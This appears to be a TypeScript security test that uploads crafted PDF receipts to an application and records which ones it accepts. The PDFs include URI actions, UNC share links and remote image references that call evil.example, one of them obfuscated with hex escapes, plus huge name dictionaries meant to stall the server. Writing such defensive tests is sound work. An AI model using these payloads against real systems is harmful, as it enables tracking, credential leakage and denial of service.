import { pdfOf } from '#test/support/sample-files.ts'
import { aRequester } from '#test/support/test-users.ts'
import { sendShopping, uploadedFile } from '#test/support/uploads.ts'
import type { Attack } from './attack.ts'

const withObject = (object: string): Buffer => pdfOf({ objects: [object] })

const documents: Record<string, Buffer> = {
  'calls a page of ours when it is clicked': withObject('<< /S /URI /URI (https://evil.example/?who) >>'),
  'does so in numbers': withObject('<< /S /U#52I /#55RI (https://evil.example/?who) >>'),
  'leads into another document': withObject('<< /S /Thread /F (\\\\evil.example\\share\\a.pdf) /D 0 >>'),
  'takes its picture from elsewhere': withObject(
    '<< /Type /XObject /Subtype /Image /F << /FS /URL /F (https://evil.example/a) >> /Length 0 >>\nstream\n\nendstream',
  ),
  'names a file elsewhere': withObject('<< /Type /Filespec /UF (\\\\evil.example\\share\\a) >>'),
  'has a million names': withObject(`<< ${'/a '.repeat(1_000_000)} >>`),
}

const slow = withObject(`<< ${'/#61 '.repeat(2_000_000)} >>`)
/** Longer than one turn of the event loop on a busy machine, shorter than the document would block the loop. */
const longestTurnMs = 250
/** A document that blocks does so each time; a busy machine does not. */
const times = 3

/** The longest time for which this process was blocked. */
const longestTurn = async (work: () => Promise<unknown>): Promise<number> => {
  let [last, longest] = [performance.now(), 0]
  const timer = setInterval(() => {
    const now = performance.now()
    longest = Math.max(longest, now - last)
    last = now
  }, 5)
  await work()
  clearInterval(timer)
  return Math.round(Math.max(longest, performance.now() - last))
}

/** A receipt that opens something outside the document, or that blocks the process for all others. */
export const attack: Attack = {
  about: 'documents that call other machines, or block everyone else',
  run: async (host) => {
    const { client } = await aRequester(host)
    const send = async (bytes: Buffer) => {
      const id = await uploadedFile(client, { purpose: 'receipt', contentType: 'application/pdf', bytes })
      return () => sendShopping(client, id)
    }
    const gains: string[] = []
    for (const [what, bytes] of Object.entries(documents)) {
      const claim = await send(bytes)
      if ((await claim()).status === 201) gains.push(`a document that ${what} was taken`)
    }
    const blocked: number[] = []
    for (let time = 0; time < times; time += 1) blocked.push(await longestTurn(await send(slow)))
    if (Math.min(...blocked) > longestTurnMs) gains.push(`no call was answered for ${blocked.join(', ')} ms`)
    return { tries: Object.keys(documents).length + times, gains }
  },
}
